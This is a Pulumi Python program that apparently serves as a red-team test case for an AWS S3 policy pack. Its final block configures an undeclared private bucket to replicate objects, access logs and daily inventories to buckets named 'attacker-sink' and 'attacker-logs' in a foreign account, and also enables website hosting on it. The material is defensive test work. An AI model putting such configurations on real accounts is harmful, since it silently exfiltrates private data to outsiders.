"""Class 4 (undeclared bucket by literal name): resources that configure `corp-legacy-private`, a bucket the
program does not declare: `BucketReplicationConfig` (to a foreign bucket), `BucketWebsiteConfigurationV2`,
`BucketLoggingV2` (to a foreign log bucket), `Inventory` (object listing to a foreign bucket),
`BucketNotification` and `AccessPoint`.

Why it is dangerous: an undeclared (hence private-by-default) bucket's media is replicated / listed / logged to
another account's bucket, and the pack cannot judge it. Why it passed (before the fix, red-team review): `s3-configures-declared-buckets` only
looks at `CONFIGURATION_TYPES` (policy, access block, ownership, ACL, encryption, versioning, CORS, lifecycle,
objects); replication, website, logging, inventory, notification, access point, analytics, intelligent
tiering, object lock, accelerate, request payment and metric configurations are not in the list.

Caught by: `s3-configures-declared-buckets`, `s3-replication-stays-in-program`, `s3-exports-stay-in-program` (mandatory) and `s3-private-bucket-no-website` (advisory), also in a first preview.
"""

import json

import pulumi
import pulumi_aws as aws

ACCOUNT = "123456789012"  # the program's own account (the provider's allowedAccountIds)
SERVICE_TRUST = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Principal": {"Service": "ecs-tasks.amazonaws.com"},
                "Action": "sts:AssumeRole",
                "Condition": {"StringEquals": {"aws:SourceAccount": ACCOUNT}},
            }
        ],
    }
)


def tls_only(name: str) -> dict:
    return {
        "Sid": "TlsOnly",
        "Effect": "Deny",
        "Principal": "*",
        "Action": "s3:*",
        "Resource": [f"arn:aws:s3:::{name}", f"arn:aws:s3:::{name}/*"],
        "Condition": {"Bool": {"aws:SecureTransport": "false"}},
    }


def media_objects(name: str) -> str:
    return json.dumps(
        {
            "Version": "2012-10-17",
            "Statement": [
                {"Effect": "Allow", "Action": ["s3:GetObject", "s3:PutObject"], "Resource": f"arn:aws:s3:::{name}/*"}
            ],
        }
    )


def secure_bucket(name: str, visibility: str = "private", with_policy: bool = True) -> aws.s3.BucketV2:
    """A media bucket done right (access block, TLS-only policy, ACLs off, encryption, versioning, lifecycle)."""
    bucket = aws.s3.BucketV2(
        name,
        bucket=f"corp-{name}",
        tags={"media-storage:visibility": visibility},
        opts=pulumi.ResourceOptions(protect=True),
    )
    private = visibility == "private"
    aws.s3.BucketPublicAccessBlock(
        f"{name}-block",
        bucket=bucket.id,
        block_public_acls=True,
        ignore_public_acls=True,
        block_public_policy=private,
        restrict_public_buckets=private,
    )
    aws.s3.BucketOwnershipControls(
        f"{name}-ownership", bucket=bucket.id, rule={"object_ownership": "BucketOwnerEnforced"}
    )
    aws.s3.BucketServerSideEncryptionConfigurationV2(
        f"{name}-encryption",
        bucket=bucket.id,
        rules=[{"apply_server_side_encryption_by_default": {"sse_algorithm": "AES256"}}],
    )
    aws.s3.BucketVersioningV2(f"{name}-versioning", bucket=bucket.id, versioning_configuration={"status": "Enabled"})
    aws.s3.BucketLifecycleConfigurationV2(
        f"{name}-lifecycle",
        bucket=bucket.id,
        rules=[
            {
                "id": "abort",
                "status": "Enabled",
                "filter": {},
                "abort_incomplete_multipart_upload": {"days_after_initiation": 7},
            }
        ],
    )
    if with_policy:
        aws.s3.BucketPolicy(
            f"{name}-policy",
            bucket=bucket.id,
            policy=json.dumps({"Version": "2012-10-17", "Statement": [tls_only(f"corp-{name}")]}),
        )
    return bucket


def app_role() -> aws.iam.Role:
    """The legitimate media role: ECS tasks of this account, object read/write on corp-media."""
    role = aws.iam.Role("app", name="corp-app", assume_role_policy=SERVICE_TRUST, tags={"media-storage:app": "shop"})
    aws.iam.RolePolicy("app-media", role=role.id, policy=media_objects("corp-media"))
    return role


def program() -> None:
    aws.Provider("main", allowed_account_ids=[ACCOUNT], region="us-east-1")
    secure_bucket("media")
    app_role()
    legacy = "corp-legacy-private"
    aws.s3.BucketReplicationConfig(
        "legacy-replication",
        bucket=legacy,
        role=f"arn:aws:iam::{ACCOUNT}:role/existing-replication",
        rules=[
            {
                "id": "all",
                "status": "Enabled",
                "filter": {},
                "delete_marker_replication": {"status": "Disabled"},
                "destination": {"bucket": "arn:aws:s3:::attacker-sink", "account": "999999999999"},
            }
        ],
    )
    aws.s3.BucketWebsiteConfigurationV2("legacy-web", bucket=legacy, index_document={"suffix": "index.html"})
    aws.s3.BucketLoggingV2("legacy-log", bucket=legacy, target_bucket="attacker-logs", target_prefix="legacy/")
    aws.s3.Inventory(
        "legacy-inventory",
        bucket=legacy,
        included_object_versions="All",
        schedule={"frequency": "Daily"},
        destination={
            "bucket": {"format": "CSV", "bucket_arn": "arn:aws:s3:::attacker-sink", "account_id": "999999999999"}
        },
    )
    aws.s3.BucketNotification("legacy-notify", bucket=legacy)
    aws.s3.AccessPoint("legacy-ap", bucket=legacy, name="legacy-ap")
